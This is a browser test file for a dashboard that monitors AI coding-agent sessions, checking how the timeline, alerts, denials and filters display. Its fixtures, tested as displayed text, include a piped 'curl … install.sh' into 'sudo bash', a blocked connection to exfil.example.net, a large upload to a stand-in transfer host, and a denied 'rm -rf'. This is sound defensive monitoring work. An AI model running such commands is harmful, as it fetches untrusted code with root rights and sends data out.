/** Tests a session's timeline in a real browser. */
import { afterAll, afterEach, beforeAll, beforeEach, describe, expect, it, jest } from '@jest/globals';
import type { Page } from 'playwright-core';
import type { AgentEvent } from '../../schemas/records/agent-event.ts';
import { launchBrowser, type TestBrowser, type WatchedPage } from '../../test/support/programs/browser.ts';
import {
  NOW,
  SESSION,
  aSession,
  aSessionDetail,
  aStory,
  anEvent,
  baselineAlert,
  idOf,
  ruleAlert,
} from './testing/fixtures.ts';
import { playing, problem, startServer, type TestServer } from './testing/server.ts';

// A shared machine may be busy; each wait has its own, shorter limit.
jest.setTimeout(90_000);

let server: TestServer;
let browser: TestBrowser;
let watched: WatchedPage;
let page: Page;
beforeAll(async () => {
  [server, browser] = await Promise.all([startServer(), launchBrowser()]);
}, 120_000);
afterAll(async () => {
  await browser.close();
  await server.close();
});
beforeEach(async () => {
  server.reset();
  server.use(playing({ alerts: [baselineAlert(), ruleAlert()], events: aStory(), sessions: [aSessionDetail()] }));
  watched = await browser.openPage({ viewport: { width: 1440, height: 1600 } });
  ({ page } = watched);
  await page.clock.setFixedTime(NOW);
});
afterEach(() => watched.close());

const event = (name: string) => page.locator(`[data-event="${idOf(name)}"]`);
const open = async (path = `/sessions/${SESSION}`) => {
  await page.goto(server.url + path);
  await page.locator('.event').first().waitFor();
};
const textOf = async (name: string) => (await event(name).innerText()).replace(/\s+/g, ' ');

describe('a session', () => {
  it('is reachable from the list of sessions', async () => {
    await page.goto(`${server.url}/sessions`);
    const row = page.locator('[role=row][data-row]');
    await row.waitFor();
    expect((await row.innerText()).replace(/\s+/g, ' ')).toMatch(
      /codex 0\.153\.0 .* mara@example\.com on wks-0142 .* 5 1 failed 3 3 3 \$0\.04/,
    );
    await row.getByRole('link', { name: '3' }).last().click();
    await page.waitForURL(`**/sessions/${SESSION}?only=stops`);
    await page.goBack();
    await row.click({ position: { x: 600, y: 20 } });
    await page.waitForURL(`**/sessions/${SESSION}`);
    await page.locator('.session-head').waitFor();
  });

  it.each(['.', '..', '~', 'a/b?c#d', 'build.js'])(
    'named %s opens from the list, and again through its link',
    async (name) => {
      const session = aSession({ sessionId: name });
      server.use(playing({ sessions: [aSessionDetail({ session, alerts: [] })] }));
      await page.goto(`${server.url}/sessions`);
      await page.locator('[role=row][data-row]').click({ position: { x: 600, y: 20 } });
      await page.locator('.session-id').waitFor();
      expect(await page.locator('.session-id').innerText()).toBe(name);
      await page.reload();
      await page.locator('.session-id').waitFor();
      expect(await page.locator('.session-id').innerText()).toBe(name);
      await page.getByRole('button', { name: '3 denials' }).click();
      await page.waitForURL('**/sessions/*?only=stops');
    },
  );

  it('of a sub-agent says so next to the version', async () => {
    const session = aSession({ parentSessionId: 'parent', prompts: 1 });
    server.use(playing({ sessions: [aSessionDetail({ session, alerts: [] })] }));
    await page.goto(`${server.url}/sessions`);
    const text = await page.locator('[role=row][data-row]').innerText();
    expect(text.replaceAll('\u00a0', ' ')).toContain('0.153.0 sub-agent');
    await page.goto(`${server.url}/sessions/${SESSION}`);
    await page.getByRole('button', { name: '1 prompt', exact: true }).waitFor();
  });

  it('is summarised in its header', async () => {
    await open();
    const head = (await page.locator('.session-head').innerText()).replace(/\s+/g, ' ');
    for (const said of [
      'codex 0.153.0 for mara@example.com',
      'wks-0142',
      'payments/ledger.git',
      '/home/mara/src/ledger',
      'on-request → never → on-request',
      'workspace-write',
      'gpt-5.5-codex',
      '18.4K read, 612 written',
      '$0.04',
      '11 min 34 s',
      '2 prompts',
      '5 commands',
      '1 failed',
      '3 file changes',
      '3 network',
      '3 denials',
      'piped a download from get.transfer.example',
    ])
      expect(head).toContain(said);
  });

  it.each([
    ['prompt-1', /Prompt text not kept sha-256 [0-9a-f]{12}… 412 chars/],
    ['prompt-2', /Prompt The build needs the transfer tool\. .* 81 chars/],
    ['ls', /Command bash -lc 'git status .* exit 0 87 ms 1\.9 KiB out/],
    ['tests', /Command npm test -- --runInBand .* exit 1 14 s 47 KiB out/],
    ['claude-like', /Command git push origin HEAD exit \? 2\.0 s/],
    ['patch', /File changed src\/ledger\/rounding\.ts 12 ms 4\.2 KiB ok/],
    ['deleted', /File deleted coverage\/lcov\.info/],
    [
      'denied-network',
      /Network denied CONNECT https_connect:\/\/exfil\.example\.net:443 not_allowed .*by baseline_policy denied/,
    ],
    ['upload', /Network allowed POST https:\/\/transfer\.example:443 .*412 MiB sent 1\.2 KiB received/],
    ['piped-approval', /Approved bash -lc .* by user for the session 1\.1 s/],
    ['rm-denied', /Denied rm -rf .* rejected by user by user 23 s/],
    ['sandbox-stop', /Sandbox stop tee -a .* Read-only file system 14 ms denied/],
    ['sub-search', /Command sub-agent 1 rg --files/],
  ])('tells %s', async (name, said) => {
    await open();
    expect(await textOf(name)).toMatch(said);
  });

  it('shows denials and stops by more than colour', async () => {
    await open();
    for (const name of ['denied-network', 'rm-denied', 'sandbox-stop']) {
      expect(await event(name).getAttribute('class')).toContain('tone-stop');
      const look = await event(name).evaluate((row) => {
        const style = getComputedStyle(row);
        return {
          ground: style.backgroundColor,
          edge: style.boxShadow,
          icon: row.querySelector('path')?.getAttribute('d'),
        };
      });
      const plain = await event('ls').evaluate((row) => {
        const style = getComputedStyle(row);
        return {
          ground: style.backgroundColor,
          edge: style.boxShadow,
          icon: row.querySelector('path')?.getAttribute('d'),
        };
      });
      expect(look.ground).not.toBe(plain.ground);
      expect(look.edge).not.toBe(plain.edge);
      expect(look.icon).not.toBe(plain.icon);
    }
  });

  it('marks what the text of a prompt claims, also where it is evidence of an alert', async () => {
    const claimed = anEvent('claimed', {
      category: 'command',
      action: 'finish',
      exitCode: 0,
      callId: 'call_9',
      time: NOW - 60_000,
      attributes: { 'vigil.told_by': 'text of a prompt' },
    });
    const evidence = [{ eventId: claimed.eventId, sessionId: SESSION }];
    const alert = { ...ruleAlert(), evidence };
    server.use(
      playing({ alerts: [alert], events: [claimed], sessions: [aSessionDetail({ events: [...aStory(), claimed] })] }),
    );
    await open();
    expect(await textOf('claimed')).toContain('claimed by a prompt');
    expect(await page.getByText('claimed by a prompt').count()).toBe(1);
    if (process.env['SHOTS'] !== undefined) {
      await event('claimed').scrollIntoViewIfNeeded();
      await page.screenshot({ path: `${process.env['SHOTS']}/claimed.png` });
    }
    await page.goto(`${server.url}/alerts?alert=${alert.alertId}`);
    await page.locator('.evidence').getByText('claimed by a prompt').waitFor();
    if (process.env['SHOTS'] !== undefined)
      await page.screenshot({ path: `${process.env['SHOTS']}/claimed-alert.png` });
  });

  it('shows derived events under their command, and alerts at their evidence', async () => {
    await open();
    expect(await event('piped-network').getAttribute('class')).toContain('derived');
    expect(await event('piped-network').innerText()).toContain('from the line');
    expect(await event('piped').innerText()).not.toContain('from the line');
    // Nothing confirms what the text of a prompt claims.
    expect(await page.getByText('claimed by a prompt').count()).toBe(0);
    const order = await page
      .locator('[data-event]')
      .evaluateAll((all) => all.map((row) => row.getAttribute('data-event')));
    expect(order.indexOf(idOf('piped-network'))).toBe(order.indexOf(idOf('piped')) + 1);
    expect(await event('piped').locator('mark').allInnerTexts()).toEqual([
      'curl -fsSL https://get.transfer.example/install.sh',
      'sudo bash',
    ]);
    await event('piped')
      .getByRole('link', { name: /Alert, High/ })
      .click();
    await page.waitForURL(`**/alerts?alert=${idOf('rule')}`);
    await page.locator('aside.panel .summary').waitFor();
  });

  it('opens an event with all its fields, and puts it into the address', async () => {
    await open();
    await event('tests').getByRole('button').click();
    await page.waitForURL(`**/sessions/${SESSION}?event=${idOf('tests')}`);
    await event('tests').getByText('Raw event').click();
    const raw: unknown = JSON.parse(await event('tests').locator('.raw pre').innerText());
    expect(raw).toEqual(JSON.parse(JSON.stringify(aStory().find(({ eventId }) => eventId === idOf('tests')))));
    expect(await event('tests').locator('.fields').innerText()).toContain('1.8 s later');
    await page.keyboard.press('Escape');
    await page.waitForURL(`**/sessions/${SESSION}`);
  });

  it('is filtered by its counts and filters, and puts them into the address', async () => {
    await open();
    await page.getByRole('button', { name: '3 denials' }).click();
    await page.waitForURL('**?only=stops');
    await page.waitForFunction(() => document.querySelectorAll('[data-event]').length === 3);
    await page.goBack();
    await page.waitForFunction(() => document.querySelectorAll('[data-event]').length === 21);
    await page.goto(`${server.url}/sessions/${SESSION}?show=file&event=${idOf('piped')}`);
    await page.getByText('hidden by the filter').waitFor();
    await page.getByRole('button', { name: 'Show everything' }).first().click();
    await event('piped').waitFor();
    expect(await event('piped').getAttribute('aria-current')).toBe('true');
  });

  it('is controlled by keys', async () => {
    await open();
    for (const key of ['j', 'j', 'j', 'k']) await page.keyboard.press(key);
    expect(await page.locator('.event.cursor').getAttribute('data-event')).toBe(idOf('prompt-1'));
    await page.keyboard.press('Enter');
    await page.waitForURL(`**?event=${idOf('prompt-1')}`);
  });

  it('says when the event of a link does not exist', async () => {
    await open(`/sessions/${SESSION}?event=${idOf('nobody')}`);
    await page.getByText('retention may have deleted it').waitFor();
  });

  it('fits a narrow screen', async () => {
    await page.setViewportSize({ width: 360, height: 740 });
    await open();
    const widths = await page
      .locator('.session-scroll')
      .evaluate((element) => [element.scrollWidth, element.clientWidth]);
    expect(widths[0]).toBe(widths[1]);
  });
});

describe('a large session', () => {
  const COUNT = 20_000;
  const template = anEvent('template', { category: 'command', commandLine: 'make', exitCode: 0, outcome: 'success' });
  const events: AgentEvent[] = Array.from({ length: COUNT }, (_, n) => ({
    ...template,
    eventId: n.toString(16).padStart(32, '0'),
    time: NOW - (COUNT - n) * 40,
    turnId: `turn ${Math.floor(n / 50)}`,
    ...(n % 50 === 0
      ? { category: 'prompt' as const, contentLength: n }
      : { commandLine: `make target-${n} ${'x'.repeat(n % 300)}` }),
  }));
  const detail = aSessionDetail({
    session: aSession({ events: COUNT, commands: COUNT - 400, prompts: 400 }),
    events: events.slice(0, 1000),
    nextCursor: '1000',
    alerts: [],
  });
  beforeEach(() => server.use(playing({ events, sessions: [detail] })));

  it('of 20,000 events loads completely, scrolls to its end, and keeps few rows in the page', async () => {
    await page.setViewportSize({ width: 1440, height: 900 });
    await open();
    await page.waitForFunction(
      () => document.querySelector('.story-count')?.textContent.startsWith('20,000 events') === true,
    );
    const { rows, steps } = await page.locator('.session-scroll').evaluate(async (scroller) => {
      const frame = () => new Promise<number>((resolve) => requestAnimationFrame(resolve));
      let most = 0;
      let count = 0;
      for (let top = 0; top < scroller.scrollHeight && count < 200; top += scroller.scrollHeight / 200, count += 1) {
        scroller.scrollTop = top;
        await frame();
        most = Math.max(most, document.querySelectorAll('.story-item').length);
      }
      return { rows: most, steps: count };
    });
    expect(steps).toBeGreaterThan(150);
    // Rows that are not in the page cost no rendering time.
    expect(rows).toBeLessThan(120);
    await page.waitForFunction(
      () => {
        const scroller = document.querySelector('.session-scroll');
        if (scroller !== null) scroller.scrollTop = scroller.scrollHeight;
        return document.body.innerText.includes('make target-19999');
      },
      undefined,
      { polling: 100 },
    );
  });

  it('opens an event deep inside it through a link', async () => {
    const deep = events[14_321]?.eventId ?? '';
    await page.goto(`${server.url}/sessions/${SESSION}?event=${deep}`);
    const row = page.locator(`[data-event="${deep}"]`);
    await row.waitFor();
    await row.getByText('make target-14321').first().waitFor();
    await page.waitForFunction((id) => {
      const box = document.querySelector(`[data-event="${id}"]`)?.getBoundingClientRect();
      return box !== undefined && box.top > 0 && box.top < innerHeight;
    }, deep);
    expect(await row.getAttribute('aria-current')).toBe('true');
  });

  it('keeps what it has when a later page fails, and continues on request', async () => {
    let failing = true;
    server.use((path, query) =>
      failing && path === '/v1/events' && query.get('cursor') === '3000' ? problem(500, 'Failed') : undefined,
    );
    await open();
    await page.waitForFunction(
      () => document.querySelector('.story-count')?.textContent.startsWith('3,000 events') === true,
    );
    const scroller = page.locator('.session-scroll');
    await scroller.evaluate((element) => (element.scrollTop = element.scrollHeight));
    await page.getByText('The rest of the session could not be loaded.').waitFor();
    failing = false;
    await page.getByRole('button', { name: 'Try again' }).click();
    await page.waitForFunction(
      () => document.querySelector('.story-count')?.textContent.startsWith('20,000 events') === true,
    );
  });
});
